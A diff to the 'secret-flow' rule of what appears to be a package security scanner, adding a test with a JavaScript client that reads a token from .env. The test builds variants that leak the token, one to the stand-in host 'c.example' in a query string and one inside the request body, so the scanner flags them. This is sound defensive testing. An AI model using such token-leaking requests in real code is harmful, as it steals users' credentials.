@@ -16,7 +16,9 @@ crate::declare_rule! {
     /// engine). `critical` in code that runs on install, on `require` or as a declared command;
     /// `high` elsewhere; `medium` in bundles (minified, or over 200 KB: names are tracked
     /// without scopes). One secret-named variable (`process.env.X_TOKEN`) sent in a body is
-    /// `medium` (a client may post its own key); in an `Authorization` header it is no flow.
+    /// `medium` (a client may post its own key); in an `Authorization` header it is no flow. A
+    /// request to the address picked from the configuration by an address-named key (`const {
+    /// API_URL } = env`) carries nothing through its URL.
     id: "secret-flow",
     category: Data,
     severity: High,
@@ -99,6 +101,34 @@ mod tests {
         let named = set.replace("--require ", "");
         let hits = run(&super::RULE, "index.js", &named);
         assert_eq!(hits.first().map(|h| h.severity), Some(Severity::High));
+    }
+
+    const ENV_CLIENT: &str = "const fs = require('fs');\nasync function readEnv() { const e = require('util').parseEnv(fs.readFileSync('.env', 'utf8')); return { API_URL: process.env.API_URL || e.API_URL || 'https://api.example.com/graphql', API_TOKEN: process.env.API_TOKEN || e.API_TOKEN }; }\nasync function load(q) { const { API_URL, API_TOKEN } = await readEnv(); return fetch(API_URL, { method: 'POST', headers: { Authorization: `Token ${API_TOKEN}` }, body: JSON.stringify({ q }) }); }\nmodule.exports = load;\n";
+
+    /// @changesets/get-github-info 1.0.1: the API address and token come from the environment or
+    /// the project's `.env`; the request goes to that address with the token as its
+    /// credential. Putting the `.env` values in the body is still a flow.
+    #[test]
+    fn a_request_to_the_address_the_env_file_names_is_no_flow() {
+        assert!(run(&super::RULE, "index.js", ENV_CLIENT).is_empty());
+        let body = ENV_CLIENT.replace(
+            "JSON.stringify({ q })",
+            "JSON.stringify({ q, cfg: await readEnv() })",
+        );
+        let hits = run(&super::RULE, "index.js", &body);
+        assert!(
+            hits.iter().any(|h| h.severity >= Severity::High),
+            "{hits:?}"
+        );
+        let url = ENV_CLIENT.replace(
+            "fetch(API_URL,",
+            "fetch('https://c.example/?d=' + API_TOKEN,",
+        );
+        let hits = run(&super::RULE, "index.js", &url);
+        assert!(
+            hits.iter().any(|h| h.severity >= Severity::High),
+            "{hits:?}"
+        );
     }
 
     #[test]
